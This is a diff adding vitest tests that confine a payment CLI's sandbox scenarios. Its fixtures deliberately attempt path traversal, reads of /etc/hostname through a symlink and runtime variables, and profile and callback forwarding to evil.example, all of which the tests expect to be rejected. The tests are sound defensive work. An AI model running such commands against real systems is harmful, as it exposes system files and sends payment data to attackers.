@@ -1,8 +1,9 @@
-import { existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
+import { existsSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { describe, expect, test, vi } from 'vitest'
 import { newHome, paydesk } from '../../kit/paydesk.ts'
+import { addHandProfile, serviceByHand } from '../../kit/service-by-hand.ts'
 
 vi.setConfig({ testTimeout: 120_000 })
 
@@ -127,4 +128,107 @@ test('the home of the user is left alone', async () => {
   const ended = await paydesk(['sandbox', 'run', path], { home })
   expect(ended.code, ended.stderr).toBe(0)
   expect(existsSync(join(home, 'sandbox'))).toBe(false)
+})
+
+describe('a scenario stays in its world', () => {
+  test('what would leave it is 2, every violation with its line, and nothing is started', async () => {
+    const path = file(`scenario: s
+variables: { where: /etc/hostname, who: acme }
+steps:
+  - run: profile add mine --base-url https://evil.example --client-id x
+  - run: payout create --file \${where} --yes
+  - run: payout create --file ../secret.yaml --yes
+  - run: [key, generate, --private-key, /tmp/k]
+  - run: payout balance -p \${who}
+  - run: callback listen --forward-to https://evil.example
+  - run: callback replay cb-1 --to https://evil.example
+`)
+    const ended = await run(path, '--json')
+    expect(ended).toMatchObject({ code: 2, stdout: '' })
+    const said = String(ended.error.message)
+    for (let line = 4; line <= 10; line += 1) expect(said).toContain(`line ${line}: `)
+    expect(said).toContain('cannot touch "/etc/hostname"')
+    expect(existsSync('/tmp/k')).toBe(false)
+  })
+
+  test('a link beside it leads nowhere else', async () => {
+    const path = file('scenario: s\nsteps:\n  - run: payout create --file order.yaml --yes\n')
+    symlinkSync('/etc/hostname', join(path, '..', 'order.yaml'))
+    expect(await run(path, '--json')).toMatchObject({ code: 2, stdout: '' })
+  })
+
+  test('a variable that is known only then is looked at then: 2, with the line', async () => {
+    const path = file(`scenario: s
+steps:
+  - run: payout create --amount 1 --currency GEL --to-iban GE29NB0000000101904917 --beneficiary-name A --description /etc/hostname --yes
+    save: { id: journalId }
+  - run: journal show \${id}
+    save: { where: request.description }
+  - run: payout create --file \${where} --yes
+`)
+    const ended = await run(path, '--json')
+    expect([ended.code, ended.stdout], ended.stderr).toEqual([2, ''])
+    expect(ended.error.message).toContain('line 7: run cannot touch "/etc/hostname"')
+  })
+
+  test('files beside it are read and written there, wherever it is started from', async () => {
+    const path = file(`scenario: s
+steps:
+  - run: payout create --file order.yaml --yes
+    expect: { json: { amount: 3.5 } }
+  - run: key generate --private-key own.key
+  - run: key show own.key
+`)
+    const [directory, payment] = [join(path, '..'), 'beneficiaryName: A\ndescription: B\n']
+    writeFileSync(
+      join(directory, 'order.yaml'),
+      `amount: 3.50\ncurrency: GEL\ntoIban: GE29NB0000000101904917\n${payment}`,
+    )
+    const ended = await run(path, '--json')
+    expect(ended.code, ended.stderr).toBe(0)
+    expect(existsSync(join(directory, 'own.key'))).toBe(true)
+  })
+
+  test('the variables and the profiles of the user are not in it', async () => {
+    const home = newHome()
+    await addHandProfile(home, 'http://127.0.0.1:1')
+    const env = {
+      PAYDESK_PROFILE: 'hand',
+      PAYDESK_CLIENT_SECRET: 's',
+      PAYDESK_PRIVATE_KEY_FILE: '/x',
+      https_proxy: 'x',
+    }
+    const path = file(`scenario: s
+steps:
+  - run: payout balance --currency GEL
+    expect: { json: { '[0].amount': { matches: . } } }
+`)
+    const ended = await paydesk(['sandbox', 'run', path, '--json'], { home, env })
+    expect(ended.code, ended.stderr).toBe(0)
+  })
+
+  test('its callbacks go to this machine only', async () => {
+    const heard: string[] = []
+    const here = await serviceByHand(({ path }) => {
+      heard.push(path)
+      return { body: '' }
+    })
+    const shop = '5a9db0c0-0301-4a11-8c11-000000000301'
+    const order = (to: string) => `order create --amount 1 --receiver-id ${shop} --callback-uri ${to} --yes`
+    const step = (to: string, name: string) => `  - run: ${order(to)}
+    save: { ${name}: integratorOrderId }
+  - trigger: { what: paid, order: '\${${name}}' }
+`
+    const path = file(`scenario: s
+steps:
+${step(`${here.url}/here`, 'a')}${step('https://192.0.2.7/there', 'b')}  - wait: 2s
+  - run: sandbox callbacks --order \${a}
+    expect: { json: { '[0].state': delivered } }
+  - run: sandbox callbacks --order \${b}
+    expect: { json: { '[0].attempts[0].why': { matches: 'a scenario calls this machine only' } } }
+`)
+    const ended = await run(path, '--json')
+    expect(ended.code, ended.stderr).toBe(0)
+    expect(heard).toEqual(['/here'])
+  })
 })
